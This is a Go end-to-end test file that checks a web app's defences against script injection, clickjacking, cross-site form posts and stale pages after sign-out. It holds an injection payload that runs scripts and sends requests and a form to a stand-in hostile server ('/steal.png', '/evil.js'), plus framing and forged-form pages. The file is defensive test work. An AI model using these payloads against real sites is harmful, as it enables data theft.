package e2e

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

// hostile is a site of somebody else on this machine, under the same name as the product:
// cookies go to it too, and browsers call the two the same site. Only our own checks are
// between them.
type hostile struct {
	address string
	mu      sync.Mutex
	asked   []string // what browsers asked it for
	cookies []string // what they told it
}

func newHostile(t *testing.T, pages map[string]string) *hostile {
	t.Helper()
	h := &hostile{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.asked, h.cookies = append(h.asked, r.URL.Path), append(h.cookies, r.Header.Get("Cookie"))
		h.mu.Unlock()
		page, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!doctype html><title>evil</title><link rel=icon href=data:,><main>%s</main>", page)
	}))
	t.Cleanup(server.Close)
	h.address = strings.Replace(server.URL, "127.0.0.1", "localhost", 1)
	return h
}

func (h *hostile) heard(text string) bool {
	h.mu.Lock()
	defer h.mu.Unlock()
	return strings.Contains(strings.Join(h.asked, " ")+" "+strings.Join(h.cookies, " "), text)
}

// hears waits until a browser has asked for it.
func (h *hostile) hears(path string) bool {
	again, enough := time.NewTicker(20*time.Millisecond), time.After(patience)
	defer again.Stop()
	for !h.heard(path) {
		select {
		case <-again.C:
		case <-enough:
			return false
		}
	}
	return true
}

// visitHostile goes to a page of theirs.
func (b *browser) visitHostile(h *hostile, path string) {
	b.t.Helper()
	ours := b.base
	b.base = h.address
	b.visit(path)
	b.base = ours
}

// inject does on the page what whoever had slipped markup into it would do: run scripts,
// load theirs, send what is there away.
const inject = `(evil => {
	window.ran = 0; window.seen = new Set();
	document.addEventListener('securitypolicyviolation', e => window.seen.add(e.effectiveDirective));
	const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
	add('script', {textContent: 'window.ran++'});
	add('div', {innerHTML: '<img src="/nothing.png" onerror="window.ran++">'});
	add('script', {src: evil + '/evil.js'});
	add('img', {src: evil + '/steal.png'});
	add('iframe', {src: evil + '/steal.html'});
	add('style', {textContent: 'body { background: url(' + evil + '/steal.css) }'});
	fetch(evil + '/steal.json').catch(() => {});
	if (location.origin !== evil) { const f = document.createElement('form'); f.method = 'post'; f.action = evil + '/steal'; document.body.append(f); f.submit(); }
	return true; })(%q)`

func TestS7_WhatIsSlippedIntoAPageNeitherRunsNorSendsAnything(t *testing.T) {
	t.Parallel()
	evil := newHostile(t, map[string]string{"/": "here it would run"})
	b := be(t, maker)
	b.visit("/payouts")
	ask[bool](b, fmt.Sprintf(inject, evil.address))
	if !b.until(`['script-src-elem', 'script-src-attr', 'img-src', 'frame-src', 'style-src-elem', 'connect-src', 'form-action'].every(d => window.seen.has(d))`) {
		t.Errorf("the browser refused only %v", ask[[]string](b, `[...window.seen]`))
	}
	if ran := ask[int](b, `window.ran`); ran > 0 {
		t.Errorf("%d injected scripts ran", ran)
	}
	if evil.heard("/") {
		t.Errorf("the other site was asked for %v", evil.asked)
	}
	b.forgive()

	// The same on a page without our headers runs, and is heard.
	b.visitHostile(evil, "/")
	ask[bool](b, fmt.Sprintf(inject, evil.address))
	if !b.until(`window.ran === 2`) || !evil.hears("/steal.png") || !evil.hears("/evil.js") {
		t.Errorf("the injection does nothing anywhere: %v", evil.asked)
	}
	b.forgive()
}

func TestS7_NoPageIsShownInsideAnotherSite(t *testing.T) {
	t.Parallel()
	frames := fmt.Sprintf(`<iframe src="%[1]s/sign-in"></iframe><iframe src="%[1]s/payouts"></iframe><iframe src="%[1]s/approvals"></iframe><iframe src="/plain"></iframe>`, base)
	evil := newHostile(t, map[string]string{"/": frames, "/plain": "<p>a page that may be framed</p>"})
	b := be(t, approver)
	b.visitHostile(evil, "/")
	b.blames("frame-ancestors", 3)
	if !b.until(`document.querySelectorAll('iframe')[3].contentDocument?.body?.innerText.includes('may be framed')`) {
		t.Error("nothing is shown in a frame at all")
	}
	if n := b.blamed("frame-ancestors"); n != 3 {
		t.Errorf("%d frames were refused", n)
	}
	b.forgive()
}

func TestS6_APostFromAnotherSiteChangesNothing(t *testing.T) {
	t.Parallel()
	form := fmt.Sprintf(`<form method="post" action="%s/profile/zone"><input name="zone" value="Asia/Tokyo"><button>Win</button></form>`, base)
	evil := newHostile(t, map[string]string{"/": form})
	b := be(t, auditor)
	b.visitHostile(evil, "/")
	if !evil.heard("countersign=") {
		t.Fatal("the browser sends no cookie along, so that nothing is tried here")
	}
	read := ask[string](b, fmt.Sprintf(`fetch(%q, {credentials: 'include'}).then(r => r.text(), () => 'refused')`, base+"/profile"))
	if read != "refused" {
		t.Errorf("another site read %.100q", read)
	}
	b.forgive()
	b.follow("Win")
	b.sees("Another site sent this form", "Nothing was changed")
	b.visit("/profile")
	if zone := ask[string](b, `document.querySelector('[name=zone]').value`); zone == "Asia/Tokyo" {
		t.Error("another site's form was carried out")
	}
	b.forgive()
}

// What stood on a page goes with the session, though nobody touches the page.
func TestS19_AnOpenPageIsEmptiedAfterSigningOutElsewhere(t *testing.T) {
	t.Parallel()
	b := be(t, maker)
	b.visit("/payouts")
	b.sees("陳怡君")
	ask[bool](b, `(f => fetch(f.action, {method: 'POST', body: new URLSearchParams(new FormData(f))}).then(() => true))(document.querySelector('form[action="/sign-out"]'))`)
	b.sees("You were signed out. What stood on this page is no longer shown.")
	b.missesIn("main", "陳怡君")
}
